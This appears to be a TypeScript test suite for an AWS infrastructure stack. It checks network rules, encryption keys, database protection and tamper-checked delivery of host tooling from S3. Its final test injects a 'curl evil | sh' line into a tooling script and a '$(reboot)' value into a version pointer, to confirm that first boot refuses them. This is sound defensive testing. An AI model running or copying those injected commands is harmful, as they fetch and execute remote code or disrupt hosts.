// The estate under mocks: what the network opens, how hosts and the database are protected.
import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { subnetCidrs } from "../components/network/cidr";
import { REPORT_SPEC_KEY } from "../components/monitoring/report";
import { RELEASE_SOURCE_PATH } from "../components/release/source";
import { hostFiles, writeOut } from "../scripts/preview/plan";
import { NOURISHCTL_LIB_PATH, NOURISHCTL_LIB_SOURCE, NOURISHCTL_PATH, NOURISHCTL_SOURCE, nourishctlFiles } from "../components/hosts/user-data";
import { parse } from "yaml";
import { committedStack, ofType, one, ProgramRun, RecordedResource, runStack } from "./harness";
import { startS3 } from "./s3";
import { requireTool, run } from "./tools";

/** Every ingress rule as "<group> <port> from <cidr|group>", for exact comparison. */
function ingressRules(r: ProgramRun): string[] {
  const groupName = new Map(ofType(r, "aws:ec2/securityGroup:SecurityGroup").map((g) => [g.id, g.name.replace(/^network-/, "")]));
  return ofType(r, "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule").map((x: RecordedResource) => {
    const i = x.inputs as { securityGroupId: string; fromPort: number; toPort: number; cidrIpv4?: string; referencedSecurityGroupId?: string };
    assert.strictEqual(i.fromPort, i.toPort, `${x.name} opens a port range`);
    return `${groupName.get(i.securityGroupId)} ${i.fromPort} from ${i.cidrIpv4 ?? groupName.get(i.referencedSecurityGroupId ?? "")}`;
  }).sort();
}


describe("estate under mocks", () => {
  let prod: ProgramRun;
  let staging: ProgramRun;
  before(async () => {
    prod = await committedStack("prod");
    staging = await committedStack("staging");
  });

  it("lays subnets out without overlap", () => {
    assert.deepStrictEqual(subnetCidrs("10.40.0.0/16", 20, 2, 0), ["10.40.0.0/20", "10.40.16.0/20"]);
    assert.deepStrictEqual(subnetCidrs("10.40.0.0/16", 20, 2, 2), ["10.40.32.0/20", "10.40.48.0/20"]);
    assert.throws(() => subnetCidrs("10.40.0.0/24", 20, 2), /larger than the VPC/);
    assert.strictEqual(ofType(prod, "aws:ec2/subnet:Subnet").length, 4, "two AZs, public and private");
  });

  it("outputs every host's instance id by role, the database host's too (start-session, on-call documents)", () => {
    for (const r of [prod, staging]) {
      const byRole = (role: string) => ofType(r, "aws:ec2/instance:Instance").filter((i) => (i.inputs.tags as Record<string, string>)?.role === role).map((i) => i.id).sort();
      const ids = r.outputs.instanceIds as { app: string[]; db: string[] };
      assert.deepStrictEqual([...ids.app].sort(), byRole("app"), r.stack);
      assert.deepStrictEqual(ids.db, byRole("db"), r.stack);
      assert.strictEqual(ids.db.length, 1, r.stack);
    }
  });

  it("opens exactly the web entry point, app→db, and nothing else (prod, behind an ALB)", () => {
    assert.deepStrictEqual(ingressRules(prod), [
      "alb 443 from 0.0.0.0/0",
      "alb 80 from 0.0.0.0/0",
      "app 80 from alb",
      "db 5432 from app",
      // The SSM and CloudWatch Logs interface endpoints (what a quarantined host still reaches).
      "endpoints 443 from 10.40.0.0/16",
    ]);
  });

  it("opens 80/443 on a single TLS-terminating app host and SSH only from admin CIDRs when asked", async () => {
    assert.deepStrictEqual(ingressRules(staging), ["app 443 from 0.0.0.0/0", "app 80 from 0.0.0.0/0", "db 5432 from app", "endpoints 443 from 10.41.0.0/16"]);
    const withSsh = await runStack("staging", { set: { network: { sshAccess: true, adminCidrs: ["197.243.16.0/28"] } } });
    assert.deepStrictEqual(ingressRules(withSsh).filter((r) => r.includes(" 22 ")), ["app 22 from 197.243.16.0/28", "db 22 from 197.243.16.0/28"]);
  });

  it("logs all VPC traffic", () => {
    const flow = ofType(prod, "aws:ec2/flowLog:FlowLog");
    assert.strictEqual(flow.length, 1);
    assert.strictEqual(flow[0].inputs.trafficType, "ALL");
    assert.strictEqual(one(prod, "aws:cloudwatch/logGroup:LogGroup", "network-flow-logs").inputs.retentionInDays, 90);
  });

  it("encrypts the flow logs with a key only CloudWatch Logs may use, for that log group of this account", () => {
    for (const r of [prod, staging]) {
      const group = one(r, "aws:cloudwatch/logGroup:LogGroup", "network-flow-logs");
      const key = one(r, "aws:kms/key:Key", "network-flow-logs-key");
      assert.strictEqual(group.inputs.kmsKeyId, `arn:aws:kms:af-south-1:123456789012:key/${key.id}`);
      assert.strictEqual(key.inputs.enableKeyRotation, true);
      const logs = JSON.parse(String(key.inputs.policy)).Statement.find((s: { Principal: { Service?: string } }) => s.Principal.Service === "logs.af-south-1.amazonaws.com");
      assert.deepStrictEqual(logs?.Condition, {
        ArnEquals: { "kms:EncryptionContext:aws:logs:arn": `arn:aws:logs:af-south-1:123456789012:log-group:${group.inputs.name}` },
        StringEquals: { "aws:SourceAccount": "123456789012" },
      });
      const trust = JSON.parse(String(one(r, "aws:iam/role:Role", "network-flow-logs").inputs.assumeRolePolicy)).Statement[0];
      assert.deepStrictEqual(trust.Condition, {
        StringEquals: { "aws:SourceAccount": "123456789012" },
        ArnLike: { "aws:SourceArn": "arn:aws:ec2:af-south-1:123456789012:vpc-flow-log/*" },
      });
    }
  });

  it("keeps the tooling bucket on prod (no forceDestroy), SSE-KMS with its own key, aged by lifecycle, access-logged", () => {
    for (const [r, env] of [[prod, "prod"], [staging, "staging"]] as const) {
      const bucket = one(r, "aws:s3/bucket:Bucket", "tooling");
      assert.strictEqual(bucket.inputs.forceDestroy, env === "staging", `${env}: forceDestroy`);
      assert.strictEqual(one(r, "aws:s3/bucket:Bucket", "tooling-access-logs").inputs.forceDestroy, env === "staging");
      const key = one(r, "aws:kms/key:Key", "tooling-key");
      const sse = (one(r, "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration", "tooling-encryption").inputs.rules as { applyServerSideEncryptionByDefault: Record<string, string> }[])[0];
      assert.deepStrictEqual(sse.applyServerSideEncryptionByDefault, { sseAlgorithm: "aws:kms", kmsMasterKeyId: `arn:aws:kms:af-south-1:123456789012:key/${key.id}` });
      const rules = one(r, "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "tooling-lifecycle").inputs.rules as { id: string }[];
      assert.deepStrictEqual(rules.map((x) => x.id), ["noncurrent-versions", "abort-incomplete-uploads"]);
      const logging = one(r, "aws:s3/bucketLogging:BucketLogging", "tooling-logging");
      assert.strictEqual(logging.inputs.bucket, bucket.id);
      assert.strictEqual(logging.inputs.targetBucket, one(r, "aws:s3/bucket:Bucket", "tooling-access-logs").id);
      // The hosts that read the tooling may decrypt it.
      for (const g of ofType(r, "aws:iam/rolePolicy:RolePolicy").filter((p) => p.name.endsWith("-tooling"))) {
        assert.ok(JSON.parse(String(g.inputs.policy)).Statement.some((s: { Action: string; Resource: string }) => s.Action === "kms:Decrypt" && s.Resource.endsWith(key.id)), g.name);
      }
    }
  });

  it("protects and retains the secrets, backup and volume keys on prod (they decrypt the data), not on staging", () => {
    for (const name of ["secrets-key", "secrets-app-key", "secrets-backup-key", "backups-key", "volumes-key"]) {
      const p = one(prod, "aws:kms/key:Key", name);
      assert.deepStrictEqual([p.protect, p.retainOnDelete], [true, true], `prod ${name}`);
      const s = one(staging, "aws:kms/key:Key", name);
      assert.deepStrictEqual([s.protect, s.retainOnDelete], [false, false], `staging ${name}`);
    }
  });

  it("keeps the database on an encrypted, protected, retained volume of its own", () => {
    const volume = one(prod, "aws:ebs/volume:Volume", "database-data");
    assert.strictEqual(volume.inputs.encrypted, true);
    assert.strictEqual(volume.protect, true);
    assert.strictEqual(volume.retainOnDelete, true);
    assert.strictEqual(volume.deleteBeforeReplace, false);
    assert.strictEqual(volume.inputs.size, 200);
    const attachment = one(prod, "aws:ec2/volumeAttachment:VolumeAttachment", "database-data");
    assert.strictEqual(attachment.inputs.volumeId, volume.id);
  });

  it("requires IMDSv2, encrypts root volumes, monitors and auto-recovers every host", () => {
    const instances = ofType(prod, "aws:ec2/instance:Instance");
    assert.ok(instances.length >= 1);
    for (const i of instances) {
      const meta = i.inputs.metadataOptions as Record<string, unknown>;
      assert.strictEqual(meta.httpTokens, "required", `${i.name}: IMDSv1 allowed`);
      assert.strictEqual((i.inputs.rootBlockDevice as Record<string, unknown>).encrypted, true);
      assert.strictEqual(i.inputs.monitoring, true);
      assert.match(String(i.inputs.ami), /^ami-/, "AMI looked up");
      const alarm = ofType(prod, "aws:cloudwatch/metricAlarm:MetricAlarm").find((a) => a.inputs.metricName === "StatusCheckFailed_System" && (a.inputs.dimensions as Record<string, string>).InstanceId === i.id);
      assert.deepStrictEqual(alarm?.inputs.alarmActions, ["arn:aws:automate:af-south-1:ec2:recover", prod.outputs.alertTopicArn], `${i.name} has no recovery alarm that notifies`);
    }
  });

  it("keeps every host's user data within EC2's 16 KB limit (gzip'd)", () => {
    for (const i of ofType(prod, "aws:ec2/instance:Instance")) {
      const bytes = Buffer.from(String(i.inputs.userDataBase64), "base64").length;
      assert.ok(bytes < 16384, `${i.name}: user data is ${bytes} bytes`);
    }
  });

  it("delivers nourishctl through the tooling bucket: each host waits for every tooling object and installs what tooling/current names", () => {
    // The report's metric list is data app-0 reads when it reports, not tooling a host boots with.
    const objects = ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2").filter((o) => String(o.inputs.key).startsWith("tooling/") && o.inputs.key !== REPORT_SPEC_KEY);
    assert.ok(objects.length >= 4);
    for (const i of ofType(prod, "aws:ec2/instance:Instance")) {
      const role = (i.inputs.tags as Record<string, string>).role;
      for (const o of objects) assert.ok(i.dependsOn.includes(o.urn), `${i.name} may boot before ${o.inputs.key} exists`);
      const doc = hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")?.content ?? "";
      assert.match(doc, /s3:\/\/tooling-[0-9a-f]+\/tooling\/current/);
      assert.ok(doc.indexOf("tooling/current") < doc.indexOf("/usr/local/sbin/nourishctl setup"), "setup runs before the tooling is fetched");
    }
    const bucket = one(prod, "aws:s3/bucket:Bucket", "tooling");
    const grants = ofType(prod, "aws:iam/rolePolicy:RolePolicy").filter((p) => p.name.endsWith("-tooling"));
    assert.strictEqual(grants.length, 2);
    for (const g of grants) {
      assert.deepStrictEqual(JSON.parse(String(g.inputs.policy)).Statement, [
        { Sid: "ReadTooling", Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${bucket.id}/tooling/*` },
        { Sid: "ListTooling", Effect: "Allow", Action: "s3:ListBucket", Resource: `arn:aws:s3:::${bucket.id}`, Condition: { StringLike: { "s3:prefix": ["tooling/*"] } } },
        // The bucket is SSE-KMS under the tooling key (issue 13).
        { Sid: "DecryptTooling", Effect: "Allow", Action: "kms:Decrypt", Resource: `arn:aws:kms:af-south-1:123456789012:key/${one(prod, "aws:kms/key:Key", "tooling-key").id}` },
      ]);
    }
  });

  it("gives the database host's role only its own parameters", () => {
    const role = one(prod, "aws:iam/role:Role", "database-role");
    const policies = ofType(prod, "aws:iam/rolePolicy:RolePolicy").filter((p) => p.inputs.role === role.id);
    const statements = policies.flatMap((p) => JSON.parse(String(p.inputs.policy)).Statement as { Action: string | string[]; Resource: string | string[] }[]);
    for (const s of statements) {
      for (const a of ([] as string[]).concat(s.Action)) assert.ok(!a.includes("*"), `wildcard action ${a}`);
      // No EC2 or ELB right at all since issue 20 (isolation is the on-call operator's), so no "*".
      for (const r of ([] as string[]).concat(s.Resource)) assert.ok(r !== "*", "wildcard resource");
    }
  });

  it("provisions RDS instead when database.managed is on: encrypted, private, protected, Multi-AZ", async () => {
    const managed = await runStack("prod", { set: { database: { managed: true, multiAz: true } } });
    const rds = one(managed, "aws:rds/instance:Instance", "database-rds");
    assert.strictEqual(rds.inputs.storageEncrypted, true);
    assert.strictEqual(rds.inputs.publiclyAccessible, false);
    assert.strictEqual(rds.inputs.deletionProtection, true);
    assert.strictEqual(rds.inputs.multiAz, true);
    // Its own master user with an RDS-managed password (Secrets Manager), never the app's role.
    assert.strictEqual(rds.inputs.password, undefined);
    assert.strictEqual(rds.inputs.manageMasterUserPassword, true);
    assert.strictEqual(rds.inputs.username, "nourish_admin");
    assert.strictEqual(rds.protect, true);
    assert.strictEqual(ofType(managed, "aws:ebs/volume:Volume").length, 0);
    const params = (one(managed, "aws:rds/parameterGroup:ParameterGroup", "database-params").inputs.parameters as { name: string; value: string }[]);
    assert.deepStrictEqual(params.find((p) => p.name === "shared_buffers")?.value, String(2048 * 128), "25% of 8 GiB in 8 kB pages");
    assert.ok(params.some((p) => p.name === "rds.force_ssl" && p.value === "1"));
  });

  it("creates RDS's log-export groups first, encrypted with the logs key and kept logRetentionDays, under a fixed identifier", async () => {
    const managed = await runStack("prod", { set: { database: { managed: true } } });
    const rds = one(managed, "aws:rds/instance:Instance", "database-rds");
    assert.strictEqual(rds.inputs.identifier, "nourish-link-prod");
    const key = one(managed, "aws:kms/key:Key", "monitoring-logs-key");
    for (const log of ["postgresql", "upgrade"]) {
      const group = one(managed, "aws:cloudwatch/logGroup:LogGroup", `monitoring-logs-rds-${log}`);
      assert.strictEqual(group.inputs.name, `/aws/rds/instance/nourish-link-prod/${log}`);
      assert.strictEqual(group.inputs.kmsKeyId, `arn:aws:kms:af-south-1:123456789012:key/${key.id}`);
      assert.strictEqual(group.inputs.retentionInDays, 90);
      assert.ok(rds.dependsOn.includes(group.urn), `the instance may export before ${group.inputs.name} exists`);
    }
    assert.deepStrictEqual(rds.inputs.enabledCloudwatchLogsExports, ["postgresql", "upgrade"]);
    // CloudWatch Logs may use the key for those groups too, and only for this stack's.
    const statement = JSON.parse(String(key.inputs.policy)).Statement.find((x: { Sid: string }) => x.Sid === "LogsEncryptThisStacksGroups");
    assert.deepStrictEqual(statement.Condition.ArnLike["kms:EncryptionContext:aws:logs:arn"], [
      "arn:aws:logs:af-south-1:123456789012:log-group:/nourish-link/prod/*",
      "arn:aws:logs:af-south-1:123456789012:log-group:/aws/rds/instance/nourish-link-prod/*",
    ]);
    // An instance created before the identifier was fixed keeps its name through config.
    const kept = await runStack("prod", { set: { database: { managed: true, rdsIdentifier: "database-rds-4f1c2a9" } } });
    assert.strictEqual(one(kept, "aws:rds/instance:Instance", "database-rds").inputs.identifier, "database-rds-4f1c2a9");
    assert.strictEqual(one(kept, "aws:cloudwatch/logGroup:LogGroup", "monitoring-logs-rds-postgresql").inputs.name, "/aws/rds/instance/database-rds-4f1c2a9/postgresql");
    // Without RDS there are no such groups.
    assert.ok(!ofType(prod, "aws:cloudwatch/logGroup:LogGroup").some((g) => String(g.inputs.name).startsWith("/aws/rds/")));
  });

  it("puts prod's app hosts in private subnets behind an ALB: HTTPS with TLS 1.2+, HTTP redirected, health-checked", () => {
    const hosts = ofType(prod, "aws:ec2/instance:Instance").filter((i) => (i.inputs.tags as Record<string, string>).role === "app");
    assert.strictEqual(hosts.length, 2);
    const privateIds = new Set(ofType(prod, "aws:ec2/subnet:Subnet").filter((s) => (s.inputs.tags as Record<string, string>).tier === "private").map((s) => s.id));
    assert.strictEqual(new Set(hosts.map((h) => h.inputs.subnetId)).size, 2, "app hosts spread over two AZs");
    for (const h of hosts) assert.ok(privateIds.has(String(h.inputs.subnetId)), `${h.name} is not in a private subnet`);
    const https = one(prod, "aws:lb/listener:Listener", "app-https");
    assert.strictEqual(https.inputs.protocol, "HTTPS");
    assert.match(String(https.inputs.sslPolicy), /TLS13/);
    const http = one(prod, "aws:lb/listener:Listener", "app-http");
    assert.deepStrictEqual((http.inputs.defaultActions as { redirect: unknown }[])[0].redirect, { protocol: "HTTPS", port: "443", statusCode: "HTTP_301" });
    const targets = one(prod, "aws:lb/targetGroup:TargetGroup", "app-targets");
    assert.strictEqual((targets.inputs.healthCheck as Record<string, unknown>).path, "/health/");
    assert.deepStrictEqual(ofType(prod, "aws:lb/targetGroupAttachment:TargetGroupAttachment").map((a) => a.inputs.targetId).sort(), hosts.map((h) => h.id).sort());
    assert.strictEqual(one(prod, "aws:lb/loadBalancer:LoadBalancer", "app-alb").inputs.dropInvalidHeaderFields, true);
  });

  it("gives a single staging host an Elastic IP and TLS on nginx, with no ALB", () => {
    assert.strictEqual(ofType(staging, "aws:lb/loadBalancer:LoadBalancer").length, 0);
    const host = one(staging, "aws:ec2/instance:Instance", "app-0");
    assert.strictEqual(one(staging, "aws:ec2/eip:Eip", "app-ip").inputs.instance, host.id);
    const site = hostFiles(staging).find((f) => f.role === "app" && f.path === "/etc/nginx/sites-available/nourish-link.conf");
    assert.match(site?.content ?? "", /ssl_certificate \/etc\/nourish-link\/tls\/fullchain\.pem;/);
  });

  it("sizes gunicorn from the instance's vCPUs unless app.gunicornWorkers says otherwise", async () => {
    const unit = (r: ProgramRun) => hostFiles(r).find((f) => f.path === "/etc/systemd/system/nourish-link-app@.service")?.content ?? "";
    assert.match(unit(prod), /--workers 5\b/, "t3.medium: 2 vCPUs → 5 workers");
    assert.match(unit(await runStack("prod", { set: { app: { gunicornWorkers: 3 } } })), /--workers 3\b/);
  });

  it("gives the database host WAL archiving within 60 s and a pgBackRest template without the passphrase", async () => {
    const files = hostFiles(prod).filter((f) => f.role === "db");
    const archive = files.find((f) => f.path === "/etc/postgresql/15/main/conf.d/nourish-link-archive.conf")?.content ?? "";
    assert.match(archive, /^archive_mode = on$/m);
    assert.match(archive, /^archive_timeout = 60\b/m);
    const template = files.find((f) => f.path === "/etc/pgbackrest/pgbackrest.conf.in")?.content ?? "";
    assert.match(template, /^repo1-cipher-pass=@PGBACKREST_CIPHER_PASS@$/m);
    const bucket = one(prod, "aws:s3/bucket:Bucket", "backups-pgbackrest");
    assert.match(template, new RegExp(`^repo1-s3-bucket=${bucket.id}$`, "m"));
    const noPitr = hostFiles(await runStack("prod", { set: { backups: { pitr: false } } })).map((f) => f.path);
    assert.ok(!noPitr.includes("/etc/pgbackrest/pgbackrest.conf.in"));
  });

  it("sizes PostgreSQL from the database instance's memory", () => {
    const conf = hostFiles(prod).find((f) => f.path === "/etc/postgresql/15/main/conf.d/nourish-link.conf")?.content ?? "";
    assert.match(conf, /shared_buffers = 2048MB/, "m6i.large: 25% of 8 GiB");
    assert.match(conf, /log_min_duration_statement = 250\b/, "prod's database.slowQueryMs");
  });

  it("puts no secret in user data or plan output", async () => {
    const secret = "a-django-secret-key-that-must-never-appear-anywhere-0123456789";
    const r = await runStack("prod", { secrets: { djangoSecretKey: secret, dbPassword: "db-password-that-must-stay-secret" } });
    const everything = JSON.stringify(r) + hostFiles(r).map((f) => f.content).join("\n");
    for (const leak of [secret, "db-password-that-must-stay-secret", "mockgen"]) assert.ok(!everything.includes(leak), `${leak} leaked`);
  });
});

describe("host files, by the tools that read them", () => {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "nl-hosts-"));
  after(() => fs.rmSync(out, { recursive: true, force: true }));

  for (const stack of ["staging", "prod"] as const) {
    it(`${stack}: every user data passes \`cloud-init schema\``, async () => {
      requireTool("cloud-init");
      writeOut(path.join(out, stack), await committedStack(stack));
      const docs = fs.readdirSync(path.join(out, stack, "hosts")).map((role) => path.join(out, stack, "hosts", role, "user-data.yaml"));
      assert.ok(docs.length >= 1);
      for (const doc of docs) {
        const r = run("cloud-init", ["schema", "--config-file", doc]);
        assert.strictEqual(r.status, 0, `${doc}: ${r.stdout}${r.stderr}`);
      }
    });
  }

  it("nourishctl and its verb library pass shellcheck, and every host gets all of them", async () => {
    requireTool("shellcheck");
    const libs = fs.readdirSync(NOURISHCTL_LIB_SOURCE).map((f) => path.join(NOURISHCTL_LIB_SOURCE, f));
    assert.ok(libs.length >= 2);
    const r = run("shellcheck", ["-x", NOURISHCTL_SOURCE, ...libs]);
    assert.strictEqual(r.status, 0, r.stdout);
    const prod = await committedStack("prod");
    for (const role of ["app", "db"] as const) {
      const onHost = hostFiles(prod).filter((f) => f.role === role).map((f) => f.path);
      for (const f of nourishctlFiles(role)) assert.ok(onHost.includes(f.path), `${role} host lacks ${f.path}`);
    }
    // Database verbs stay off the app hosts.
    assert.ok(nourishctlFiles("db").some((f) => f.path.endsWith("/maintain.sh")));
    assert.ok(!nourishctlFiles("app").some((f) => f.path.endsWith("/maintain.sh")));
  });
});

describe("first boot installs the version tooling/current names, only when it matches its manifest (sh against s3rver)", function () {
  this.timeout(300_000);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "nl-firstboot-"));
  let prod: ProgramRun;
  let s3: Awaited<ReturnType<typeof startS3>>;
  let bucket: string;
  before(async () => {
    prod = await committedStack("prod");
    bucket = one(prod, "aws:s3/bucket:Bucket", "tooling").id;
    s3 = await startS3({ buckets: [bucket] });
    // The objects exactly as the stack uploads them: laid out by key, in one recursive copy (one
    // aws CLI start-up instead of one per object), then listed back to be sure each key is there.
    const objects = ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2");
    const upload = path.join(dir, "upload");
    for (const o of objects) {
      const file = path.join(upload, String(o.inputs.key));
      fs.mkdirSync(path.dirname(file), { recursive: true });
      fs.writeFileSync(file, String(o.inputs.content));
    }
    const r = s3.aws(["s3", "cp", "--only-show-errors", "--recursive", upload, `s3://${bucket}/`]);
    assert.strictEqual(r.status, 0, r.stderr);
    const listed = s3.aws(["s3", "ls", "--recursive", `s3://${bucket}/`]);
    assert.strictEqual(listed.status, 0, listed.stderr);
    assert.deepStrictEqual(listed.stdout.trim().split("\n").map((l) => l.trim().split(/\s+/).pop()).sort(), objects.map((o) => String(o.inputs.key)).sort());
  });
  after(async () => {
    await s3?.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** The version the stack uploaded (scripts/host and its release source): what tooling/current names. */
  const stackHash = () => String(ofType(prod, "aws:s3/bucketObjectv2:BucketObjectv2").find((o) => o.inputs.key === "tooling/current")!.inputs.content).trim();

  /** The role's tooling runcmd entry from its rendered user data, then a line that shows whether first boot went on. */
  function firstBoot(role: "app" | "db") {
    const doc = parse(hostFiles(prod).find((f) => f.role === role && f.path === "user-data.yaml")!.content) as { runcmd: string[] };
    const entry = doc.runcmd.find((c) => c.includes("tooling/current"));
    assert.ok(entry, `${role}: no tooling command in runcmd`);
    // A sandbox root with the host.env cloud-init's write_files put there before runcmd runs.
    const root = fs.mkdtempSync(path.join(dir, `${role}-`));
    fs.mkdirSync(path.join(root, "etc/nourish-link"), { recursive: true });
    fs.writeFileSync(path.join(root, "etc/nourish-link/host.env"), `ROLE=${role}\n`);
    const r = run("sh", ["-c", `${entry}\necho first boot goes on`], { env: { ...process.env, ...s3.env, S3_ENDPOINT: s3.endpoint, NOURISH_ROOT: root, PATH: `/usr/bin:${process.env.PATH}` } });
    return { ...r, root };
  }

  it("installs the role's checked files: the libraries and the CLI, executable", () => {
    for (const role of ["app", "db"] as const) {
      const r = firstBoot(role);
      assert.strictEqual(r.status, 0, r.stderr);
      assert.match(r.stdout, /first boot goes on/);
      for (const f of nourishctlFiles(role)) {
        const installed = path.join(r.root, f.path);
        assert.strictEqual(fs.readFileSync(installed, "utf8"), f.content, `${role}: ${f.path}`);
        assert.strictEqual((fs.statSync(installed).mode & 0o777).toString(8), f.permissions === "0755" ? "755" : "644", f.path);
      }
      // The release source the stack rendered: a new app host fetches only what prod names.
      const source = path.join(r.root, RELEASE_SOURCE_PATH);
      if (role === "db") assert.ok(!fs.existsSync(source), "the db host got the release source");
      else assert.match(fs.readFileSync(source, "utf8"), /^RELEASE_VERSION=1\.4\.1\nRELEASE_S3_BUCKET=nourish-link-releases\n/);
    }
  });

  it("stops first boot, installing nothing, when a file in the bucket differs from the manifest or the pointer names no version", () => {
    const hash = stackHash();
    const key = `tooling/${hash}/host/lib/backup.sh`;
    const tampered = path.join(dir, "tampered");
    const put = (k: string, content: string) => {
      fs.writeFileSync(tampered, content);
      assert.strictEqual(s3.aws(["s3", "cp", "--only-show-errors", tampered, `s3://${bucket}/${k}`]).status, 0);
    };
    const original = fs.readFileSync(path.join(NOURISHCTL_LIB_SOURCE, "backup.sh"), "utf8");
    put(key, original + "\ncurl evil | sh\n");
    try {
      const r = firstBoot("db");
      assert.strictEqual(r.status, 1, r.stdout + r.stderr);
      assert.match(r.stdout + r.stderr, /lib\/backup\.sh: FAILED/);
      assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: the tooling files under s3://${bucket}/tooling/${hash}/host/ do not match its manifest; nothing installed`));
      assert.doesNotMatch(r.stdout, /first boot goes on/);
      assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_PATH)), "the CLI was installed");
      assert.ok(!fs.existsSync(path.join(r.root, NOURISHCTL_LIB_PATH)), "a library was installed");
    } finally {
      put(key, original);
    }
    put("tooling/current", "$(reboot)\n");
    const r = firstBoot("app");
    assert.strictEqual(r.status, 1);
    assert.match(r.stderr, new RegExp(`nourish-link: first boot stopped before nourishctl setup: s3://${bucket}/tooling/current does not name a tooling version`));
  });
});
